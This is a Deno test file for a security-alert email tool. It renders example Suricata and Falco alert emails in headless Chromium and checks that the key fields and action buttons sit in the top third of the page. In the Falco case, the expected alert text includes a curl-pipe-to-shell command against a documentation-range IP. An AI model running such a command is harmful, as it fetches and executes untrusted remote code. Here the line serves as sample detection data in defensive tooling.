/**
 * Two example detectors' emails (Suricata, Falco) opened in headless Chromium at 640 px: the title,
 * the severity badge, the host/IP/user fields and every button with what it does sit in the top third of
 * the rendered email, and on the first screen. With `-- --screenshots` the test writes
 * `docs/img/email_<name>.png` (the README's screenshots). Skipped without /usr/bin/chromium unless
 * BLITZ_REQUIRE_BROWSER=1.
 */
import assert from "node:assert/strict";
import { browserTestIgnored, launchChromium } from "./_browser.ts";
import { examplesHarness } from "./_examples.ts";
import { ROOT } from "./_task.ts";

const SCREENSHOTS = Deno.args.includes("--screenshots");
const VIEWPORT = { width: 640, height: 1000 };

const CASES = [{
  detector: "suricata",
  sample: "suricata.json",
  shown: [
    "ET SCAN Potential SSH Scan",
    "HIGH",
    "185.220.101.34:44312",
    "10.20.4.17:22 (TCP)",
    "ids-dmz-01",
  ],
  buttons: [
    "Block 185.220.101.34 on the perimeter firewall",
    "Create Jira ticket",
  ],
}, {
  detector: "falco",
  sample: "falco.json",
  shown: [
    "Terminal shell in container: bash -c id; curl -s http://203.0.113.50/x.sh | sh",
    "MEDIUM",
    "k8s-node-07",
    "payments/checkout-7d4b9c6f8-x2lqz",
    "root (loginuid -1)",
  ],
  buttons: ["Cordon k8s-node-07", "Create Jira ticket"],
}];

Deno.test({
  name:
    "the Suricata and Falco example emails show what happened, severity, who and the buttons in their top third in Chromium",
  ignore: browserTestIgnored(),
  async fn() {
    await using h = await examplesHarness();
    const browser = await launchChromium();
    const dir = await Deno.makeTempDir({ prefix: "blitz_examples_" });
    try {
      for (const c of CASES) {
        const [alert] = await h.ingest(c.detector, c.sample);
        const html = alert!.html;
        const file = `${dir}/${c.detector}.html`;
        await Deno.writeTextFile(file, html);
        const page = await browser.newPage({ viewport: VIEWPORT });
        await page.goto(`file://${file}`);
        const height = await page.evaluate(() =>
          document.documentElement.scrollHeight
        );
        const limit = Math.min(height / 3, VIEWPORT.height);
        const bottomOf = async (
          locator: ReturnType<typeof page.getByText>,
          what: string,
        ) => {
          const box = await locator.first().boundingBox();
          assert.ok(box, `${c.detector}: ${what} is rendered`);
          return box.y + box.height;
        };
        for (const text of c.shown) {
          const bottom = await bottomOf(
            page.getByText(text, { exact: false }),
            text,
          );
          assert.ok(
            bottom <= limit,
            `${c.detector}: "${text}" ends at ${bottom} px, below the top third (${limit} of ${height} px)`,
          );
        }
        for (const label of c.buttons) {
          const bottom = await bottomOf(
            page.getByRole("link", { name: label }),
            `button ${label}`,
          );
          assert.ok(
            bottom <= limit,
            `${c.detector}: button "${label}" at ${bottom} px`,
          );
        }
        if (SCREENSHOTS) {
          await page.screenshot({
            path: `${ROOT}/docs/img/email_${c.detector}.png`,
            clip: {
              x: 0,
              y: 0,
              width: VIEWPORT.width,
              height: VIEWPORT.height,
            },
          });
        }
        await page.close();
      }
    } finally {
      await browser.close();
      await Deno.remove(dir, { recursive: true });
    }
  },
});
